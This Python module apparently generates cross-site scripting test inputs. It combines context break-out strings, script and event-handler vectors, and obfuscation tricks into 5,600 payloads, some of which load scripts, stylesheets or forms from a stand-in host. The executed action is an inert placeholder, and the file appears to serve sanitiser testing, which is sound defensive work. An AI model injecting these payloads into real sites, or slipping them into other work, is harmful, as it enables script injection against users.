"""Hostile words by the thousand: ways out of a place, what would run or fetch, and disguises.

The parts are those of the well-known collections (OWASP's filter evasion page, from memory); the
words themselves are made here. `RUN` stands for what a script would do if it ran.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

RUN = "ranQ()"

WAYS_OUT = (
    "", '">', "'>", "</title>", "</textarea>", "-->", "</svg>", "</script>", "`>", '">\n', "</p>",
    "]]>", "{{", '\\">', "<![CDATA[", "</style>", "&quot;&gt;", '";', "</a>", "\u2028",
)  # fmt: skip

WHAT = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//", f"<body onload={RUN}>", f'<iframe srcdoc="<script>{RUN}</script>">',
    f"<details open ontoggle={RUN}>", f'<a href="javascript:{RUN}">x</a>', f"javascript:{RUN}",
    f'<math><mi xlink:href="javascript:{RUN}">x', f"<video><source onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>",
    '<style>@import"//e.example/x";</style>', "<link rel=stylesheet href=//e.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//e.example">', "<base href=//e.example/>",
    "<object data=//e.example/x>", "<form action=//e.example><button>x", "<img src=//e.example/x>",
    f"[x](javascript:{RUN})", "![x](//e.example/x.gif)", "<svg><script href=//e.example/x.js>",
    f"x\n{{: onclick={RUN} }}", f"<p onmouseover={RUN}>", f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='", f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
)  # fmt: skip

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("script", "ScRiPt").replace("on", "oN"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("javascript:", "java\tscript:").replace("<img", "<img\n"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("javascript", "&#106;avascript").replace("=", "\n=\n"),
    lambda text: f"**{text}**",
    lambda text: text.replace(" ", "/"),
)


def payloads() -> Iterator[str]:
    """Every way out with everything that would run, in every disguise: 5,600."""
    for disguise in DISGUISES:
        for out in WAYS_OUT:
            for what in WHAT:
                yield disguise(out + what)


def bundles(size: int) -> list[str]:
    """All of them, so many to a text."""
    every = list(payloads())
    return [" ".join(every[start : start + size]) for start in range(0, len(every), size)]
